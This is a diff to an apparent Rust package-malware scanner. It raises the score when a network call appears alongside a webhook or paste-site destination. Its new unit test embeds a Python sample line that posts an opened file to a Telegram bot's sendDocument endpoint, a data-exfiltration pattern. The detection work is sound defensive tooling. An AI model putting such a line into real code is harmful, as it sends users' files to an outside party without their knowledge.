@@ -100,6 +100,14 @@ pub fn verdict(hits: &[Hit], meta: Option<&PackageMeta>) -> Verdict {
         {
             bonus += 2.0;
         }
+        // A network call next to a webhook, paste site or tunnel: the send.
+        if network
+            && all.iter().any(|h| {
+                h.path == *path && h.family == Family::Destination && h.severity >= Severity::Medium
+            })
+        {
+            bonus += 2.0;
+        }
         // A kilobyte-long blob run through exec: a packed payload, not data.
         if has(crate::families::obfuscation::EXEC_DECODED.meta.id)
             && has(crate::families::obfuscation::LONG_BLOB.meta.id)
@@ -201,5 +209,15 @@ mod tests {
         let data = format!("ICON = '{blob}'\n");
         let v = verdict(&crate::scan_source("pkg/icons.py", data.as_bytes()), None);
         assert!(v.severity < Severity::High, "{v:?}");
+    }
+
+    #[test]
+    fn network_call_to_a_webhook_weighs_more_than_the_url_alone() {
+        let send = "import requests\nrequests.post('https://api.telegram.org/bot' + t + '/sendDocument', files={'document': open(f, 'rb')})\n";
+        let url_only = "BOT = 'https://api.telegram.org/bot' + t\n";
+        let a = verdict(&crate::scan_source("pkg/a.py", send.as_bytes()), None);
+        let b = verdict(&crate::scan_source("pkg/a.py", url_only.as_bytes()), None);
+        assert!(a.score >= b.score + 2.0, "{a:?} {b:?}");
+        assert!(b.severity < Severity::Medium, "{b:?}");
     }
 }
